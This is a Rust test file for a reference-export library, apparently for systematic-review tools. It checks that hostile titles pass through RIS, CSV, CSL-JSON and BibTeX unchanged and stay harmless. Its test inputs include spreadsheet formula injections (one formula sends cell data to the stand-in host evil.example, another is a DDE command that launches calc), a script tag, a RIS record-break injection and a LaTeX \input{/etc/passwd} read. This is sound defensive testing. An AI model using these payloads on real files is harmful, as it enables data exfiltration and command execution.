//! Tests: what websites write must come through every format as it is, and never do anything there.

use crate::asreview::asreview_csv;
use crate::bibtex::bibtex;
use crate::csl_json::csl_json;
use crate::fate::Fate;
use crate::plain::one_line;
use crate::rayyan::rayyan_csv;
use crate::reference::tests::titled;
use crate::reference::{Author, Reference};
use crate::ris::{Labels, ris};
use bron_model::{Language, PublicationId};
use bron_text::Ris;
use proptest::prelude::*;

const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"klik\")",
    "=cmd|' /C calc'!A0",
    "+31 6 1234",
    "-2+3",
    "@SUM(1;2)",
    "'=1+1",
    "<script>alert(1)</script> & \"quotes\" 'n <b>",
    "een\ntwee\r\ndrie\tvier",
    "regel\nER  - \nTY  - JOUR\nTI  - ingebroken",
    "steur\u{0}\u{7}\u{1b}[31m \u{202e}omgekeerd\u{202c} \u{fffe}",
    "  witruimte aan de einden  ",
    "één €, 𝔷𝔬𝔯𝔤, 照護 en 🙂",
    "een;twee,drie\"vier | RAYYAN-INCLUSION: {\"AB\"=>\"Included\"}",
    "\\input{/etc/passwd} 100% {zorg} $x$ #1 _a ^b ~c & }",
    "record_id: een-ander",
    "ASReview_relevant",
];

/// A reference that is as hostile everywhere as its title.
fn hostile(number: usize, title: &str) -> Reference {
    let text = one_line(title);
    let title = if text.is_empty() { "https://a.nl/".to_owned() } else { text.clone() };
    Reference {
        id: PublicationId::new(format!("p-{number}")).expect("it is a slug"),
        authors: if text.is_empty() { Vec::new() } else { vec![Author::parse(&text)] },
        publisher: text.clone(),
        kind_as_listed: text.clone(),
        date_as_listed: text.clone(),
        sources: vec![text.clone()],
        excerpt: text,
        fate: Fate::Unclear,
        ..titled(&title)
    }
}

fn references(titles: &[String]) -> Vec<Reference> {
    titles.iter().enumerate().map(|(number, title)| hostile(number, title)).collect()
}

fn check(titles: &[String]) {
    let references = references(titles);
    check_ris(&references);
    check_csv(&references);
    check_csl(&references);
    check_bibtex(&references);
}

fn check_ris(references: &[Reference]) {
    for labels in [Labels::None, Labels::Asreview] {
        let read = Ris::of_text(&ris(references, labels, "\n"));
        assert_eq!((read.records.len(), read.stray.len()), (references.len(), 0));
        for (record, reference) in read.records.iter().zip(references) {
            assert_eq!(record.first(&["TI"]), reference.title);
            for tag in ["ID", "AN", "C1"] {
                assert_eq!(record.first(&[tag]), reference.id.as_str());
            }
            let notes: Vec<&str> = record.all("N1").collect();
            assert_eq!(notes[0], format!("record_id: {}", reference.id));
            let labels: Vec<&&str> = notes.iter().filter(|note| note.contains("ASReview_")).collect();
            assert!(labels.iter().all(|note| **note == "ASReview_not_seen") && labels.len() < 2, "{notes:?}");
            assert!(notes.iter().all(|note| !note.contains("RAYYAN-")), "{notes:?}");
        }
    }
}

fn check_csv(references: &[Reference]) {
    for (bytes, key) in [(asreview_csv(references), "record_id"), (rayyan_csv(references), "key")] {
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        let header = reader.headers().unwrap().clone();
        let at = |name: &str| header.iter().position(|column| column == name).unwrap();
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), references.len());
        for (row, reference) in rows.iter().zip(references) {
            assert_eq!(&row[at(key)], reference.id.as_str());
            let title = &row[at("title")];
            assert_eq!(
                title.strip_prefix('\'').filter(|rest| *rest == reference.title).unwrap_or(title),
                reference.title
            );
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !cell.contains('\n'),
                    "{cell}"
                );
            }
        }
    }
}

fn check_csl(references: &[Reference]) {
    let items: serde_json::Value = serde_json::from_str(&csl_json(references)).unwrap();
    let items = items.as_array().unwrap();
    assert_eq!(items.len(), references.len());
    for (item, reference) in items.iter().zip(references) {
        assert_eq!(
            (item["id"].as_str(), item["title"].as_str()),
            (Some(reference.id.as_str()), Some(&*reference.title))
        );
    }
}

fn check_bibtex(references: &[Reference]) {
    use biblatex::ChunksExt;
    let text = bibtex(references, "wat mag", Language::Nl);
    let read = biblatex::Bibliography::parse(&text).unwrap_or_else(|error| panic!("{error}\n{text}"));
    assert_eq!(read.len(), references.len());
    for (entry, reference) in read.iter().zip(references) {
        assert_eq!(entry.key, reference.id.as_str());
        assert_eq!(entry.title().unwrap().format_verbatim(), reference.title);
    }
}

#[test]
fn hostile_titles_come_through_every_format_and_do_nothing_there() {
    let titles: Vec<String> = HOSTILE.iter().map(|title| (*title).to_owned()).collect();
    check(&titles);
    check(&[String::new()]);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]
    #[test]
    fn any_titles_come_through(titles in prop::collection::vec("\\PC{0,30}|[\u{0}-\u{2f}=+@_x0-9]{0,30}|[\\\\{}%&#$_^~\"@a-z ]{0,30}|.{0,30}", 1..6)) {
        check(&titles);
    }
}
